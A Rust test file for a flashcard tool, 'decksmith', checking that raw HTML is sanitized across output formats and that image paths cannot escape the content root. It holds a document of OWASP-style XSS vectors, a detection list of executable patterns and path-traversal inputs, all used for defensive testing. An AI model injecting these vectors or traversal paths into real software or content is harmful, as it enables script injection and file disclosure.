//! Safety of `decksmith build` end to end: raw HTML is sanitized in every output format
//! (with named warnings, or kept with `--trust-html`), and images cannot pull files from
//! outside the content root into a package.

#![allow(clippy::unwrap_used)] // tests fail loudly by design

use std::io::Read;
use std::path::Path;

use assert_cmd::Command;

mod common;

use common::{Project, stderr_of};

/// Safety-specific ways of running a project.
trait SafetyProject {
    fn build(&self, args: &[&str]) -> std::process::Output;
    fn outputs(&self, name: &str) -> Vec<(String, String)>;
}

impl SafetyProject for Project {
    fn build(&self, args: &[&str]) -> std::process::Output {
        Command::cargo_bin("decksmith")
            .unwrap()
            .current_dir(self.dir.path())
            .env("SOURCE_DATE_EPOCH", "1700000000")
            .arg("build")
            .args(["-f", "apkg,csv,quizlet,json"])
            .args(args)
            .output()
            .unwrap()
    }

    /// Every output as text: the CSV, Quizlet and JSON files, and each note's fields from the
    /// `.apkg`'s collection (read with SQLite) plus the names and bytes of its media.
    fn outputs(&self, name: &str) -> Vec<(String, String)> {
        let dist = self.path("dist");
        let mut out = Vec::new();
        for ext in ["csv", "quizlet.txt", "json"] {
            let p = dist.join(format!("{name}.{ext}"));
            out.push((ext.to_owned(), std::fs::read_to_string(p).unwrap()));
        }
        let file = std::fs::File::open(dist.join(format!("{name}.apkg"))).unwrap();
        let mut zip = zip::ZipArchive::new(file).unwrap();
        let mut collection = Vec::new();
        zip.by_name("collection.anki2")
            .unwrap()
            .read_to_end(&mut collection)
            .unwrap();
        let db_path = self.path("collection.anki2");
        std::fs::write(&db_path, &collection).unwrap();
        let db = rusqlite::Connection::open(&db_path).unwrap();
        let mut stmt = db.prepare("select flds, sfld from notes").unwrap();
        let rows = stmt
            .query_map([], |r| {
                Ok(format!(
                    "{}\n{}",
                    r.get::<_, String>(0)?,
                    r.get::<_, String>(1)?
                ))
            })
            .unwrap();
        for row in rows {
            out.push(("apkg notes".to_owned(), row.unwrap()));
        }
        for i in 0..zip.len() {
            let mut entry = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            let what = format!("apkg entry {}", entry.name().unwrap());
            out.push((what, String::from_utf8_lossy(&bytes).into_owned()));
        }
        out
    }
}

/// Patterns that would run code if they reached a card (checked lower-case). `on…=` handler
/// attributes are checked separately.
const EXECUTABLE: &[&str] = &[
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<style",
    "<base",
    "<meta",
    "<link",
    "<form",
    "<xmp",
    "<noscript",
    "<template",
    "javascript:",
    "javascript&",
    "vbscript:",
    "data:text",
    "data:image",
    "srcdoc",
    "formaction",
    "expression(",
    "alert(",
];

/// An event-handler attribute (`onerror=`, `onload =`, …) anywhere in `text`.
fn handler_attribute(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    for (i, _) in lower.match_indices("on") {
        let preceded = i > 0 && matches!(bytes[i - 1], b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n');
        if !preceded {
            continue;
        }
        let rest = &lower[i + 2..];
        let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
        if name_len > 0 && rest[name_len..].trim_start().starts_with('=') {
            return Some(lower[i..i + 2 + name_len + 1].to_owned());
        }
    }
    None
}

/// A document whose every question and answer is an XSS vector (OWASP filter-evasion cheat
/// sheet and friends), raw HTML and Markdown alike.
const XSS_DOC: &str = r#"# Vectors

## Q1. Script <script src=//xss.example/x.js></script> in a question?

<SCRIPT SRC=http://xss.example/xss.js></script>
<ScRiPt>alert(2)</script>

Scripts never reach the card.

## Q2. Event handlers <img src=x onerror=alert(3)>?

Inline <b onmouseover="alert(4)">bold</b> and <p onclick=alert(5)>x</p>

<svg onload=alert(6)><a xlink:href="javascript:alert(7)"><text>t</text></a></svg>

<details open ontoggle=alert(8)><summary>s</summary>d</details>

## Q3. URLs?

<a href="jav&#x09;ascript:alert(9)">tab</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)">entities</a>
<a href=" &#14;  JaVaScRiPt:alert(11)">control</a>
<a href="javascript&colon;alert(12)">colon</a>
<a href="vbscript:msgbox(13)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">data</a>

[md link](javascript:alert(15)) and [ref][r]

[r]: JAVASCRIPT:alert(17)

![md image](javascript:alert(18)) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTkpPg==)

## Q4. Frames, plugins and forms?

<iframe src="javascript:alert(20)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(21)&lt;/script&gt;"></iframe>
<object data="javascript:alert(22)"></object>
<embed src="x.swf">
<form action="javascript:alert(23)"><input type="submit"><button formaction=javascript:alert(24)>go</button></form>

## Q5. Styles, base and meta?

<style>@import 'http://xss.example/x.css'; body{background:url("javascript:alert(25)")}</style>
<div style="width: expression(alert(26));">expr</div>
<span style="color: red; background-image: url(javascript:alert(27))">red</span>
<base href="javascript:alert(28)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(29)">
<link rel="stylesheet" href="javascript:alert(30)">

## Q6. MathML and mutation vectors?

<math><maction actiontype="statusline" xlink:href="javascript:alert(31)">m</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(32)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(33)>"></noscript>
<!--<img src="--><img src=x onerror=alert(34)//">
<xmp><img src=x onerror=alert(35)></xmp>
<img alt='"' onerror=alert(36) src=x>
<img """><script>alert(38)</script>">

## Q7. Headings and tables? {#q7}

### Heading {onclick=alert(39)}

| a | b |
|---|---|
| <img src=x onerror=alert(40)> | <a href=javascript:alert(41)>x</a> |

## Q8. What survives?

<kbd>Ctrl</kbd> <mark>key</mark> H<sub>2</sub>O x<sup>2</sup> $a<b$ and
<a href="https://example.com">a web link</a>.
"#;

#[test]
fn a_document_full_of_xss_vectors_builds_into_outputs_with_nothing_executable() {
    let p = Project::new();
    p.write("content/xss.md", XSS_DOC.as_bytes());
    let out = p.build(&[]);
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");

    let outputs = p.outputs("content");
    assert!(outputs.iter().any(|(_, t)| t.contains("<kbd>Ctrl</kbd>")));
    for (what, text) in &outputs {
        let lower = text.to_ascii_lowercase();
        for pattern in EXECUTABLE {
            assert!(
                !lower.contains(pattern),
                "{what} contains `{pattern}`:\n{text}"
            );
        }
        assert_eq!(handler_attribute(text), None, "{what}:\n{text}");
    }
    // What is kept is kept in every HTML output.
    let json = &outputs.iter().find(|(w, _)| w == "json").unwrap().1;
    assert!(json.contains(r#"<a href=\"https://example.com\">a web link</a>"#));
    assert!(json.contains(r"\\(a&lt;b\\)"), "{json}");

    // Warnings name what was removed, where the raw HTML is, once per kind per note.
    let hint = "(use --trust-html for trusted content)";
    for line in [
        format!(
            "content/xss.md:3:15: warning: removed <script> element and its content from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:10:23: warning: removed `onerror` attribute of <img> from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:12:8: warning: removed `onmouseover` attribute of <b> from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:14:1: warning: removed <svg> element and its content from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:20:1: warning: removed `javascript:` URL in <a href> from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:27:1: warning: removed `javascript:` URL from a Markdown link {hint}"
        ),
        format!(
            "content/xss.md:31:1: warning: removed `javascript:` URL from a Markdown image {hint}"
        ),
        format!(
            "content/xss.md:35:1: warning: removed <iframe> element and its content from raw HTML {hint}"
        ),
        format!("content/xss.md:38:1: warning: removed <embed> element from raw HTML {hint}"),
        format!(
            "content/xss.md:39:1: warning: removed <form> element (its text is kept) from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:43:1: warning: removed <style> element and its content from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:45:1: warning: removed `background-image` style property from raw HTML {hint}"
        ),
        format!("content/xss.md:46:1: warning: removed <base> element from raw HTML {hint}"),
        format!(
            "content/xss.md:52:1: warning: removed <math> element and its content from raw HTML {hint}"
        ),
        format!(
            "content/xss.md:62:1: warning: removed `onclick` attribute from a Markdown heading {hint}"
        ),
    ] {
        assert!(
            stderr.lines().any(|l| l == line),
            "missing `{line}` in\n{stderr}"
        );
    }
    let scripts_in_q1 = stderr
        .lines()
        .filter(|l| l.contains("removed <script> element") && l.contains("xss.md:"))
        .filter(|l| {
            let line: usize = l.split(':').nth(1).unwrap().parse().unwrap();
            (3..10).contains(&line)
        })
        .count();
    assert_eq!(scripts_in_q1, 1, "one warning per kind per note:\n{stderr}");
}

#[test]
fn trust_html_keeps_raw_html_as_written_without_warnings() {
    let p = Project::new();
    p.write(
        "content/t.md",
        b"# T\n\n## Q1. Widget?\n\n<div class=\"w\" onclick=\"flip()\">tap</div>\n<script>init()</script>\n",
    );
    let out = p.build(&["--trust-html"]);
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(!stderr.contains("removed"), "{stderr}");
    let json = std::fs::read_to_string(p.path("dist/content.json")).unwrap();
    assert!(
        json.contains(r#"<div class=\"w\" onclick=\"flip()\">tap</div>\n<script>init()</script>"#),
        "{json}"
    );

    // The same document without the flag: removed, and said so.
    let out = p.build(&[]);
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(
        stderr
            .lines()
            .filter(|l| l.contains("warning: removed"))
            .collect::<Vec<_>>(),
        [
            "content/t.md:5:1: warning: removed `onclick` attribute of <div> from raw HTML (use --trust-html for trusted content)",
            "content/t.md:6:1: warning: removed <script> element and its content from raw HTML (use --trust-html for trusted content)",
        ]
    );
    let json = std::fs::read_to_string(p.path("dist/content.json")).unwrap();
    assert!(json.contains(r#"<div class=\"w\">tap</div>"#), "{json}");
    assert!(!json.contains("init()"), "{json}");
}

/// Bytes that only the file outside the content root contains.
const SECRET: &[u8] = b"\x89PNG-OUTSIDE-THE-CONTENT-ROOT-7f3a9c";

fn assert_secret_nowhere(dir: &Path) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            assert_secret_nowhere(&path);
        } else if path.file_name().is_some_and(|n| n != "secret.png") && !path.is_symlink() {
            let bytes = std::fs::read(&path).unwrap();
            assert!(
                !bytes.windows(SECRET.len()).any(|w| w == SECRET),
                "{} contains the outside file's bytes",
                path.display()
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn images_outside_the_content_root_are_refused_and_none_of_their_bytes_reach_any_output() {
    let p = Project::new();
    p.write("secret.png", SECRET);
    p.write("content/img/ok.png", b"inside");
    std::os::unix::fs::symlink(p.path("secret.png"), p.path("content/link.png")).unwrap();
    let absolute = p.path("secret.png").display().to_string();
    p.write(
        "content/doc.md",
        format!(
            "# Doc\n\n## Q1. Climbing?\n\n![up](../secret.png)\n\n\
             ## Q2. Encoded?\n\n![enc](%2E%2E/secret.png)\n\n\
             ## Q3. Symlink?\n\n![link](link.png)\n\n\
             ## Q4. Absolute?\n\n![abs]({absolute})\n\n\
             ## Q5. Inside?\n\n![ok](img/../img/ok.png)\n"
        )
        .as_bytes(),
    );
    // Each refused image is left out of its card with a warning; `--strict` fails on them.
    let out = p.build(&["--strict"]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        stderr_of(&out),
        format!(
            "warning: skipped `content/link.png`: a symbolic link leading out of the input directory `content`\n\
             content/doc.md:5:1: warning: image path `../secret.png` leaves the content root `content`: images must be inside it; the image is left out of the card\n\
             5 | ![up](../secret.png)\n  | ^\n\
             content/doc.md:9:1: warning: image path `%2E%2E/secret.png` leaves the content root `content`: images must be inside it; the image is left out of the card\n\
             9 | ![enc](%2E%2E/secret.png)\n  | ^\n\
             content/doc.md:13:1: warning: image path `link.png` leaves the content root `content` through a symbolic link: images must be inside it; the image is left out of the card\n\
             13 | ![link](link.png)\n   | ^\n\
             content/doc.md:17:1: warning: image path `{absolute}` is absolute: write it relative to the document; the image is left out of the card\n\
             17 | ![abs]({absolute})\n   | ^\n\
             error: 5 warnings in the input, and --strict fails on warnings; nothing was written\n"
        )
    );
    assert!(!p.path("dist").exists());
    assert_secret_nowhere(p.dir.path());
    // Without it, the deck is built, with the images refused and nothing from outside.
    let out = p.build(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("5 notes"));
    assert_secret_nowhere(p.dir.path());

    // A file given directly has its own directory as the content root.
    let out = Command::cargo_bin("decksmith")
        .unwrap()
        .current_dir(p.dir.path())
        .args(["build", "content/doc.md", "--strict"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr_of(&out).starts_with(
            "content/doc.md:5:1: warning: image path `../secret.png` leaves the content root `content`"
        ),
        "{}",
        stderr_of(&out)
    );

    // With the escapes gone, the inside image is packaged and still nothing from outside is.
    p.write(
        "content/doc.md",
        b"# Doc\n\n## Q5. Inside?\n\n![ok](img/../img/ok.png)\n",
    );
    let out = p.build(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 media"));
    assert_secret_nowhere(p.dir.path());
}
